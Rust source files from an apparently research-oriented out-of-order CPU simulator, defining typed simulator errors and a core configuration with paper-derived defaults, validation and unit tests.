        PredCheckpoint {
            ghr: self.bp.ghr(),
            ras_tos,
            ras_top,
            local_idx: 0,
            global_idx: 0,
            choice_idx: 0,
            used_global: false,
        }
    }
}

/// Joins a visit prefix with a component prefix the way
/// [`StatGroup`] walks expect (no leading dot at top level).
pub(crate) fn join_prefix(prefix: &str, seg: &str) -> String {
    if prefix.is_empty() {
        seg.to_string()
    } else {
        format!("{prefix}.{seg}")
    }
}

pub(crate) fn ctrl_kind(inst: Inst) -> Option<CtrlKind> {
    match inst {
        Inst::Branch { .. } => Some(CtrlKind::CondBranch),
        Inst::Jump { .. } => Some(CtrlKind::Jump),
        Inst::JumpInd { .. } => Some(CtrlKind::JumpIndirect),
        Inst::Call { .. } => Some(CtrlKind::Call),
        Inst::CallInd { .. } => Some(CtrlKind::CallIndirect),
        Inst::Ret => Some(CtrlKind::Return),
        _ => None,
    }
}
