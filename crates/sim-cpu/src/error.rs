//! Typed simulator errors.
//!
//! Everything a caller can get wrong from the outside — a degenerate
//! [`CoreConfig`](crate::CoreConfig), a program with no instructions, a
//! zero sampling interval, a stat row that does not line up with its schema
//! — surfaces as a [`SimError`] instead of a panic, so embedding code (the
//! corpus collector, the online monitor, user harnesses) can report and
//! recover. Invariant violations that can only arise from simulator bugs
//! (a sequence number missing from the ROB, a free-list underflow) remain
//! hard panics: returning `Err` for those would let a corrupted machine
//! keep running.

use sim_mem::MemError;
use uarch_isa::AsmError;

/// An error constructing or driving the simulated machine.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub enum SimError {
    /// A [`CoreConfig`](crate::CoreConfig) parameter has a value the
    /// pipeline cannot operate with.
    InvalidConfig {
        /// The offending parameter (field name).
        param: &'static str,
        /// The rejected value.
        value: u64,
        /// Why the value is unusable.
        reason: &'static str,
    },
    /// The program has no instructions to fetch.
    EmptyProgram {
        /// Program name.
        name: String,
    },
    /// A sampling interval of zero committed instructions was requested.
    ZeroSampleInterval,
    /// A value row or stat walk did not match the resolved schema shape.
    SchemaMismatch {
        /// Columns the schema defines.
        expected: usize,
        /// Columns actually produced.
        got: usize,
    },
    /// A program failed to assemble.
    Assembly(AsmError),
    /// The memory hierarchy rejected its configuration (degenerate cache
    /// geometry).
    Mem(MemError),
    /// The core's watchdog fired: the simulated clock reached
    /// [`CoreConfig::cycle_budget`](crate::CoreConfig::cycle_budget) before
    /// the run finished — a runaway, spinning or deadlocked workload.
    CycleBudgetExceeded {
        /// The configured budget, in simulated cycles.
        budget: u64,
        /// Cycles actually simulated when the watchdog fired.
        cycles: u64,
        /// Instructions committed before the budget ran out.
        committed: u64,
    },
    /// A workload's simulation panicked and the panic was caught at the
    /// collection boundary — the payload is preserved so the quarantine
    /// report can say why.
    WorkloadPanicked {
        /// Name of the workload whose run panicked.
        workload: String,
        /// Stringified panic payload (or a placeholder for non-string
        /// payloads).
        payload: String,
    },
}

impl std::fmt::Display for SimError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            SimError::InvalidConfig {
                param,
                value,
                reason,
            } => {
                write!(f, "invalid core config: {param} = {value} ({reason})")
            }
            SimError::EmptyProgram { name } => {
                write!(f, "program `{name}` has no instructions")
            }
            SimError::ZeroSampleInterval => {
                write!(f, "sampling interval must be a positive instruction count")
            }
            SimError::SchemaMismatch { expected, got } => {
                write!(
                    f,
                    "stat shape mismatch: schema has {expected} columns, walk produced {got}"
                )
            }
            SimError::Assembly(e) => write!(f, "assembly failed: {e}"),
            SimError::Mem(e) => write!(f, "memory hierarchy rejected its configuration: {e}"),
            SimError::CycleBudgetExceeded {
                budget,
                cycles,
                committed,
            } => {
                write!(
                    f,
                    "cycle budget exceeded: {cycles} cycles simulated \
                     (budget {budget}), only {committed} instructions committed"
                )
            }
            SimError::WorkloadPanicked { workload, payload } => {
                write!(f, "workload `{workload}` panicked: {payload}")
            }
        }
    }
}

impl std::error::Error for SimError {
    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
        match self {
            SimError::Assembly(e) => Some(e),
            SimError::Mem(e) => Some(e),
            _ => None,
        }
    }
}

impl From<AsmError> for SimError {
    fn from(e: AsmError) -> Self {
        SimError::Assembly(e)
    }
}

impl From<MemError> for SimError {
    fn from(e: MemError) -> Self {
        SimError::Mem(e)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn display_is_informative() {
        let e = SimError::InvalidConfig {
            param: "rob_entries",
            value: 0,
            reason: "must be positive",
        };
        assert!(e.to_string().contains("rob_entries"));
        assert!(e.to_string().contains("must be positive"));
        let e = SimError::SchemaMismatch {
            expected: 1159,
            got: 7,
        };
        assert!(e.to_string().contains("1159"));
    }

    #[test]
    fn budget_and_panic_errors_display_their_context() {
        let e = SimError::CycleBudgetExceeded {
            budget: 50_000,
            cycles: 50_001,
            committed: 120,
        };
        assert!(e.to_string().contains("50000"));
        assert!(e.to_string().contains("120"));
        let e = SimError::WorkloadPanicked {
            workload: "poison".into(),
            payload: "index out of bounds".into(),
        };
        assert!(e.to_string().contains("poison"));
        assert!(e.to_string().contains("index out of bounds"));
    }

    #[test]
    fn assembly_errors_convert_and_chain() {
        let mut a = uarch_isa::Assembler::new("broken");
        let l = a.label();
        a.jmp(l); // never bound
        let err = a.finish().unwrap_err();
        let sim: SimError = err.into();
        assert!(matches!(sim, SimError::Assembly(_)));
        assert!(std::error::Error::source(&sim).is_some());
    }
}
