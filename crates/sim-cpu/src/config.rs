//! Core configuration (the paper's Table II).

use crate::error::SimError;

/// Out-of-order core parameters.
///
/// Defaults reproduce the simulated architecture of the paper's Table II:
/// an 8-wide X86-style O3 core at 2 GHz with a tournament branch predictor,
/// 16 RAS entries, 4096 BTB entries, 32-entry load and store queues, a
/// 192-entry ROB and 256 physical integer/float registers.
#[derive(Debug, Clone)]
pub struct CoreConfig {
    /// Instructions fetched per cycle.
    pub fetch_width: usize,
    /// Instructions decoded per cycle.
    pub decode_width: usize,
    /// Instructions renamed/dispatched per cycle.
    pub rename_width: usize,
    /// Instructions issued per cycle.
    pub issue_width: usize,
    /// Instructions committed per cycle.
    pub commit_width: usize,
    /// Reorder buffer entries.
    pub rob_entries: usize,
    /// Instruction queue entries.
    pub iq_entries: usize,
    /// Load queue entries.
    pub lq_entries: usize,
    /// Store queue entries.
    pub sq_entries: usize,
    /// Physical integer registers.
    pub phys_int_regs: usize,
    /// Physical float registers (bookkeeping only; the pool is shared).
    pub phys_float_regs: usize,
    /// Fetch→decode buffer depth.
    pub fetch_queue: usize,
    /// Decode→rename buffer depth.
    pub decode_queue: usize,
    /// Return address stack entries.
    pub ras_entries: usize,
    /// Branch target buffer entries.
    pub btb_entries: usize,
    /// Local predictor entries.
    pub local_predictor_size: usize,
    /// Global predictor entries.
    pub global_predictor_size: usize,
    /// Choice predictor entries.
    pub choice_predictor_size: usize,
    /// Integer ALU units.
    pub int_alu_units: usize,
    /// Integer multiply/divide units.
    pub int_mult_units: usize,
    /// Floating-point units.
    pub fp_units: usize,
    /// SIMD units.
    pub simd_units: usize,
    /// Data cache ports (loads+stores issued per cycle).
    pub mem_ports: usize,
    /// Byte address where the code image notionally lives (for I-cache
    /// indexing).
    pub icode_base: u64,
    /// Notional bytes per instruction (I-cache line ÷ this = insts/line).
    pub inst_bytes: u64,
    /// Cycles a committed trap holds fetch (PendingTrapStallCycles).
    pub trap_latency: u64,
    /// Cycles between a faulting instruction reaching the head of the ROB
    /// and the exception being recognized (the Meltdown speculation window:
    /// dependents keep executing during this delay).
    pub fault_recognition_delay: u64,
    /// Extra fetch-redirect penalty after a squash.
    pub squash_penalty: u64,
    /// Cycles a memory barrier takes to drain at the head of the ROB.
    pub membar_drain: u64,
    /// D-TLB entries.
    pub dtlb_entries: usize,
    /// I-TLB entries.
    pub itlb_entries: usize,
    /// Use the original full-window issue scan and completion scan instead
    /// of the ready-queue/event-driven fast path. The two are bit-identical
    /// in every statistic; this flag exists so equivalence tests can run
    /// both in one build. Defaults to `false` (fast path), or `true` when
    /// the `reference-scan` feature is enabled.
    pub reference_scan: bool,
    /// Skip ahead over cycles in which every stage is provably stalled
    /// (e.g. the whole window waiting on a DRAM fill), crediting the same
    /// per-cycle stall statistics the stages would have recorded. Only
    /// effective on the fast path (`reference_scan = false`).
    pub tick_skip: bool,
    /// Watchdog: total simulated cycles this core may ever run. When the
    /// clock reaches the budget, [`Core::run`](crate::Core::run) stops
    /// stepping and [`Core::run_with_sink`](crate::Core::run_with_sink)
    /// reports [`SimError::CycleBudgetExceeded`] — the escape hatch for
    /// runaway or deadlocked workloads in supervised corpus collection.
    /// `None` (the default) leaves the run loop untouched, preserving
    /// bit-identical behavior.
    pub cycle_budget: Option<u64>,
}

impl Default for CoreConfig {
    fn default() -> Self {
        Self {
            fetch_width: 8,
            decode_width: 8,
            rename_width: 8,
            issue_width: 8,
            commit_width: 8,
            rob_entries: 192,
            iq_entries: 64,
            lq_entries: 32,
            sq_entries: 32,
            phys_int_regs: 256,
            phys_float_regs: 256,
            fetch_queue: 32,
            decode_queue: 32,
            ras_entries: 16,
            btb_entries: 4096,
            local_predictor_size: 2048,
            global_predictor_size: 8192,
            choice_predictor_size: 8192,
            int_alu_units: 6,
            int_mult_units: 2,
            fp_units: 4,
            simd_units: 4,
            mem_ports: 4,
            icode_base: 0x40_0000,
            inst_bytes: 4,
            trap_latency: 30,
            fault_recognition_delay: 10,
            squash_penalty: 2,
            membar_drain: 4,
            dtlb_entries: 64,
            itlb_entries: 64,
            reference_scan: cfg!(feature = "reference-scan"),
            tick_skip: true,
            cycle_budget: None,
        }
    }
}

impl CoreConfig {
    /// Checks that the configuration describes a machine the pipeline can
    /// actually run: non-zero stage widths and buffer depths, and enough
    /// physical registers to map every architectural register with at
    /// least one left over for renaming.
    ///
    /// # Errors
    ///
    /// Returns [`SimError::InvalidConfig`] naming the offending parameter.
    pub fn validate(&self) -> Result<(), SimError> {
        let invalid = |param: &'static str, value: usize, reason: &'static str| {
            Err(SimError::InvalidConfig {
                param,
                value: value as u64,
                reason,
            })
        };
        for (param, value) in [
            ("fetch_width", self.fetch_width),
            ("decode_width", self.decode_width),
            ("rename_width", self.rename_width),
            ("issue_width", self.issue_width),
            ("commit_width", self.commit_width),
            ("rob_entries", self.rob_entries),
            ("iq_entries", self.iq_entries),
            ("lq_entries", self.lq_entries),
            ("sq_entries", self.sq_entries),
            ("fetch_queue", self.fetch_queue),
            ("decode_queue", self.decode_queue),
            ("ras_entries", self.ras_entries),
            ("btb_entries", self.btb_entries),
            ("local_predictor_size", self.local_predictor_size),
            ("global_predictor_size", self.global_predictor_size),
            ("choice_predictor_size", self.choice_predictor_size),
            ("int_alu_units", self.int_alu_units),
            ("mem_ports", self.mem_ports),
            ("dtlb_entries", self.dtlb_entries),
            ("itlb_entries", self.itlb_entries),
        ] {
            if value == 0 {
                return invalid(param, value, "must be positive");
            }
        }
        if self.phys_int_regs <= uarch_isa::Reg::COUNT {
            return invalid(
                "phys_int_regs",
                self.phys_int_regs,
                "must exceed the architectural register count",
            );
        }
        if self.inst_bytes == 0 {
            return Err(SimError::InvalidConfig {
                param: "inst_bytes",
                value: 0,
                reason: "must be positive",
            });
        }
        if self.cycle_budget == Some(0) {
            return Err(SimError::InvalidConfig {
                param: "cycle_budget",
                value: 0,
                reason: "a zero budget can never make progress; use None to disable",
            });
        }
        Ok(())
    }

    /// Renders the configuration as the paper's Table II.
    pub fn to_table(&self) -> String {
        format!(
            "Architecture\n\
             X86 O3CPU 1 core Single Thread at 2.0GHz\n\
             Core\n\
             Tournament branch predictor\n\
             {} RAS entries, {} BTB entries\n\
             LQEntries={}, SQEntries={}, ROBEntries={}\n\
             fetch/dispatch/issue/commit width={}\n\
             numPhysIntRegs={},numPhysFloatRegs={}\n\
             L1 I-Cache\n\
             32KB, 64B line, 4-way\n\
             L1 D-Cache\n\
             64KB, 64B line, 8-way\n\
             Shared L2 cache\n\
             2MB bank, 64B line, 8-way,\n\
             mshrs=20, tgtsPerMshr=12, writeBuffers=8\n\
             tagLatency=20, dataLatency=20, responseLatency=20",
            self.ras_entries,
            self.btb_entries,
            self.lq_entries,
            self.sq_entries,
            self.rob_entries,
            self.fetch_width,
            self.phys_int_regs,
            self.phys_float_regs,
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn defaults_match_table_ii() {
        let c = CoreConfig::default();
        assert_eq!(c.rob_entries, 192);
        assert_eq!(c.lq_entries, 32);
        assert_eq!(c.sq_entries, 32);
        assert_eq!(c.ras_entries, 16);
        assert_eq!(c.btb_entries, 4096);
        assert_eq!(c.fetch_width, 8);
        assert_eq!(c.phys_int_regs, 256);
    }

    #[test]
    fn zero_cycle_budget_is_rejected() {
        let mut c = CoreConfig::default();
        assert!(c.validate().is_ok(), "default config validates");
        c.cycle_budget = Some(0);
        assert!(matches!(
            c.validate(),
            Err(SimError::InvalidConfig {
                param: "cycle_budget",
                ..
            })
        ));
        c.cycle_budget = Some(1_000);
        assert!(c.validate().is_ok());
    }

    #[test]
    fn table_render_mentions_key_parameters() {
        let t = CoreConfig::default().to_table();
        assert!(t.contains("ROBEntries=192"));
        assert!(t.contains("16 RAS entries, 4096 BTB entries"));
        assert!(t.contains("mshrs=20"));
    }
}
